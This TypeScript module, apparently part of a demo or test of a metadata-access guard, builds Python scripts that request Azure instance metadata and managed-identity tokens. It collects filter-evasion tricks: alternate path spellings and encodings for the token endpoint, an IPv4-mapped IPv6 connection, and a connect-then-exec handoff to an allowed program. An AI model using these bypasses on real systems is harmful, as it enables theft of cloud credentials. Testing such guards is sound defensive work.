// The requests the demo makes more than once, and the scripts of its Python callers.

const IMDS = "http://169.254.169.254";
const INSTANCE_PATH = "/metadata/instance?api-version=2021-02-01";
const TOKEN_QUERY = "?api-version=2018-02-01&resource=urn:a";

export const INSTANCE = `${IMDS}${INSTANCE_PATH}`;
export const GOAL_STATE = "http://168.63.129.16/machine/?comp=goalstate";
export const TOKEN = tokenUrl("/metadata/identity/oauth2/token");

/** Other spellings of the token's address: each names the same thing to a host that tidies up paths. */
export const TOKEN_SPELLINGS: readonly string[] = [
  "/metadata/./identity/oauth2/token",
  "/metadata//identity/oauth2/token",
  "/metadata/identity%2Foauth2/token",
  "/metadata/%69dentity/oauth2/token",
  "/metadata/identity;x/oauth2/token",
  "/metadata/instance/../identity/oauth2/token",
  "/METADATA/Identity/oauth2/token",
];

/** Ends in two readings: some hosts take the backslash for a slash. */
export const AMBIGUOUS_SPELLING = "/metadata/identity%5Coauth2/token";

export function tokenUrl(path: string): string {
  return `${IMDS}${path}${TOKEN_QUERY}`;
}

/** urllib, as a monitoring script would use it. */
export function urllibScript(url: string): readonly string[] {
  return [
    "import urllib.error, urllib.request",
    `request = urllib.request.Request("${url}",`,
    '    headers={"Metadata": "true"})',
    "try:",
    "    answer = urllib.request.urlopen(request, timeout=10)",
    "except urllib.error.HTTPError as error:",
    "    answer = error",
    'print("HTTP/1.1", answer.code, end="\\n\\n")',
    "print(answer.read().decode())",
  ];
}

const RAW_GET = (target: string) => [
  `s.sendall(b"GET ${target} HTTP/1.1\\r\\n"`,
  '    b"Host: 169.254.169.254\\r\\nMetadata: true\\r\\nConnection: close\\r\\n\\r\\n")',
];

/** An IPv6 socket to the IPv4-mapped address; prints whom it believes to be connected to. */
export const MAPPED_SCRIPT: readonly string[] = [
  "import socket",
  "s = socket.socket(socket.AF_INET6)",
  's.connect(("::ffff:169.254.169.254", 80))',
  'print("getpeername:", s.getpeername()[0])',
  ...RAW_GET(INSTANCE_PATH),
  'print(s.makefile("r", newline="").read())',
];

/** Connects and asks as one program, then turns into another; a child keeps the connection and reads the answer. */
export function connectThenExecScript(program: string): readonly string[] {
  return [
    "import os, socket",
    's = socket.create_connection(("169.254.169.254", 80))',
    ...RAW_GET(TOKEN.slice(IMDS.length)),
    "if os.fork() == 0:  # the child keeps the connection and reads the answer",
    '    print(s.makefile("r", newline="").read(), flush=True)',
    "    os._exit(0)",
    "# ... and the caller turns into the allowed program, which waits for its input",
    `os.execv("${program}", ["curl", "--config", "-"])`,
  ];
}
